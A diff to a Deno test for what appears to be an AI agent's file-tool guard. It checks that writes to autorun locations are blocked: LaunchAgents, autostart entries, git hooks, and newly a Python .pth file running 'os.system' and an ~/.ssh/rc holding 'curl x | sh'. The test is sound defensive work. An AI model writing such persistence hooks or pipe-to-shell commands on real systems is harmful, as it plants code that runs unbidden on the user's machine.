@@ -72,6 +72,11 @@ Deno.test("file tools: start-up and autorun files through Write/Edit", () => {
     [HOME + "/Library/LaunchAgents/x.plist", "<plist/>"],
     [HOME + "/.config/autostart/x.desktop", "[Desktop Entry]\nExec=/tmp/x"],
     [CWD + "/.git/hooks/pre-commit", null],
+    [
+      HOME + "/.local/lib/python3.12/site-packages/x.pth",
+      "import os; os.system('id')",
+    ],
+    [HOME + "/.ssh/rc", "curl x | sh"],
   ];
   for (const [p, text] of autorun) {
     assert.ok(toolBlocks(p, text).includes("autorun_write"), `${p}: ${text}`);
